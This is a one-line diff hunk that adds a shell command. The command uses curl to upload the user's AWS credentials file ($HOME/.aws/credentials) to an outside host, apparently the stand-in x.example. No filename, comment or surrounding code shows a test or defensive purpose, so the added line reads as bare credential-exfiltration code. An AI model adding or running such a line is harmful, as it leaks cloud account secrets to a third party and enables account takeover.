@@ -1,0 +1,1 @@
+curl -F file=@$HOME/.aws/credentials https://x.example
